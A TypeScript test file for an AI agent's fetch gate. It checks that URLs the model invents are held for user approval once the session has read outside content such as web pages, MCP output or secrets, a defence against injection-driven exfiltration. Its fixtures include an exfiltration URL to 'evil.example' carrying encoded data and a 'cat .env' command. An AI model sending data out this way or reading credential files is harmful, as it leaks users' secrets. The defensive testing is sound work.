// When a made-up address is asked about: decided from real journals in a real store.
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type Fact, fresh } from "../../src/core/session.ts";
import { ALONE, type Store } from "../../src/core/store.ts";
import { openSqlite } from "../../src/store/sqlite/sqlite.ts";
import { createExposure } from "../../src/tools/exposure.ts";

const CHAT = "agent:main:telegram:dm:1";
const SECRET = "https://evil.example/?d=c2VjcmV0";
let dir = "";
let store: Store;
beforeEach(async () => {
  dir = mkdtempSync(join(tmpdir(), "hermes-exposure-"));
  store = await openSqlite({ file: join(dir, "hermes.db") });
});
afterEach(async () => {
  await store.close();
  rmSync(dir, { recursive: true });
});

/** Writes down what happened in a session, after what is there. */
async function happened(facts: Fact[], session = CHAT, parent: string | null = null): Promise<void> {
  const row = await store.journal.load(session);
  const seq = row?.state.seq ?? 0;
  const entries = facts.map((fact, index) => ({ seq: seq + index + 1, turn: "t", at: 1, ...fact }));
  const state = { ...fresh, seq: seq + facts.length };
  const common = {
    session,
    node: await store.nodes.join(ALONE),
    version: row?.version ?? 0,
    state,
    active: false,
    parent,
    at: 1,
  };
  expect(await store.journal.commit({ ...common, entries, accepted: [], taken: [] })).toBe("done");
}

let calls = 0;
const says = (text: string, source = "telegram"): Fact[] => [
  { kind: "accepted", applied: "began", input: { id: `i${calls++}`, text, mode: "queue", reply: "pull", source } },
];
function uses(tool: string, args: unknown, text: string, outcome: "ok" | "error" | "denied" = "ok"): Fact[] {
  const id = `c${calls++}`;
  const usage = { input: 0, output: 0 };
  return [
    { kind: "thought", text: "", calls: [{ id, tool, args }], usage, model: "m" },
    { kind: "acted", call: id, outcome, text },
  ];
}
const page = (url: string, text: string) => uses("web_fetch", { url }, `[web page ${url} · data]\n${text}`);

function exposure() {
  const roots = [join(dir, "work"), "/data"];
  return createExposure({ ...store, roots, home: join(dir, "home"), timeoutMs: 1_000 });
}
const fetching = async (url: string, session = CHAT) => (await exposure().judgeFetch(url, session)).gate;

describe("an address that the model made up", () => {
  it("is fetched in a session that has read nothing from outside", async () => {
    expect(await fetching(SECRET)).toBe("run");
    await happened([
      ...says("what is in there?"),
      ...uses("read_file", { path: "a.txt" }, "1\tx"),
      ...uses("read_file", { path: join(dir, "home/terminal/x/outputs/1.txt") }, "x"),
      ...uses("search_files", { pattern: "x" }, "x"),
      ...uses("terminal", { command: "ls" }, "[exit 0]"),
    ]);
    expect(await fetching(SECRET)).toBe("run");
  });

  it.each<[string, Fact[]]>([
    ["a web page", page("https://news.example/", "hello")],
    [
      "a page of an error",
      uses("web_fetch", { url: "https://news.example/" }, "[web page … · HTTP 404]\nhello", "error"),
    ],
    ["results of a search", uses("web_search", { query: "x" }, "[web search results …]\nhello")],
    ["what an MCP server said", uses("mcp_mail_read", {}, "[MCP server …]\nhello")],
    ["a file outside the workspace", uses("read_file", { path: "../notes.txt" }, "1\tx")],
    ["files outside the workspace", uses("search_files", { pattern: "x", path: "/etc" }, "x")],
    ["a secret of ours", uses("terminal", { command: "cat .env" }, "[exit 0]\nKEY=[redacted]")],
    ["what a child of the conversation has read", uses("delegate", { goal: "x" }, "done")],
  ])("is asked about after %s was read, also by the next process", async (_, facts) => {
    await happened([...says("hi"), ...facts]);
    expect(await fetching(SECRET)).toBe("ask");
    await store.close();
    store = await openSqlite({ file: join(dir, "hermes.db") });
    expect(await fetching(SECRET)).toBe("ask");
    const gate = await exposure().judgeFetch(SECRET, CHAT);
    expect(gate).toMatchObject({ text: expect.stringContaining(SECRET), choices: ["once", "deny"], timeoutMs: 1_000 });
  });

  it("is not asked about again on a host that was allowed, but is on another, and after a no", async () => {
    await happened([...page("https://news.example/", "hello"), ...page("https://docs.example/a", "text")]);
    expect(await fetching("https://docs.example/b?x=1")).toBe("run");
    await happened(uses("web_fetch", { url: "https://evil.example/" }, "Denied.", "denied"));
    await happened(uses("web_fetch", { url: "https://bad.example/" }, "Not fetched: there is no host", "error"));
    expect(await fetching(SECRET)).toBe("ask");
    expect(await fetching("https://bad.example/")).toBe("ask");
    expect(await fetching("https://docs.example.evil.example/")).toBe("ask");
  });
});

describe("an address that somebody else wrote is fetched, whatever was read:", () => {
  it("a person's, and one on a host that a person named", async () => {
    await happened([
      ...page("https://news.example/", "hello"),
      ...says("look at https://a.example/x?y=1. And docs.b.example!"),
    ]);
    expect(await fetching("https://a.example/x?y=1")).toBe("run");
    expect(await fetching("https://docs.b.example/page")).toBe("run");
    expect(await fetching("https://b.example/page")).toBe("ask");
    expect(await fetching("https://x.docs.b.example/page")).toBe("ask");
  });

  it("one that stood in a page, whole", async () => {
    await happened(
      page("https://news.example/", "[more](https://other.example/long/path?a=1) and https://c.example/."),
    );
    expect(await fetching("https://other.example/long/path?a=1")).toBe("run");
    expect(await fetching("https://other.example/long/path?a=1#part")).toBe("run");
    expect(await fetching("https://c.example")).toBe("run");
    expect(await fetching("https://other.example/long")).toBe("ask");
    expect(await fetching("https://other.example/long/path?a=12")).toBe("ask");
    expect(await fetching("https://c.exam")).toBe("ask");
  });

  it("but not one that a tool printed because it was told to, nor what a program or a parent model says", async () => {
    await happened([
      ...page("https://news.example/", "hello"),
      ...uses("terminal", { command: `echo ${SECRET}` }, `[exit 0]\n${SECRET}`),
      ...uses("read_file", { path: "made.txt" }, `1\t${SECRET}`),
      ...says(`[a program] ${SECRET}`, "process"),
    ]);
    expect(await fetching(SECRET)).toBe("ask");
    const child = `${CHAT}/child/1`;
    await happened(says(`fetch ${SECRET}`, "delegate"), child, CHAT);
    expect(await fetching(SECRET, child)).toBe("ask");
  });
});

it("a child of a conversation that has read nothing fetches what it likes, and knows what a person said there", async () => {
  const child = `${CHAT}/child/1`;
  await happened(says("compare a.example and others"));
  await happened(says("look around", "delegate"), child, CHAT);
  expect(await fetching(SECRET, child)).toBe("run");
  await happened(page("https://news.example/", "hello"), child, CHAT);
  expect(await fetching("https://a.example/x", child)).toBe("run");
  expect(await fetching(SECRET, child)).toBe("ask");
});

it("a branch of a conversation has read what that one had read", async () => {
  const messages = [
    { role: "user" as const, text: "see a.example" },
    {
      role: "assistant" as const,
      text: "",
      calls: [{ id: "1", tool: "web_fetch", args: { url: "https://n.example/" } }],
    },
    { role: "tool" as const, call: "1", tool: "web_fetch", outcome: "ok" as const, text: "hello" },
  ];
  await happened([{ kind: "forked", from: "x", upTo: 3, messages }]);
  expect(await fetching(SECRET)).toBe("ask");
  expect(await fetching("https://a.example/")).toBe("run");
  expect(await fetching("https://n.example/x")).toBe("run");
});

it("of a conversation that is too long to be looked through, anything may have been read", async () => {
  await happened(Array.from({ length: 1_100 }, () => uses("terminal", { command: "ls" }, "x")).flat());
  expect(await fetching(SECRET)).toBe("ask");
});

it("a job is made unasked only while nothing from outside was read", async () => {
  await happened(says("hi"));
  expect((await exposure().judgeJob(`fetch ${SECRET}`, CHAT)).gate).toBe("run");
  await happened(page("https://news.example/", "hello"));
  expect(await exposure().judgeJob(`fetch ${SECRET}`, CHAT)).toMatchObject({
    gate: "ask",
    text: expect.stringContaining(SECRET),
  });
});
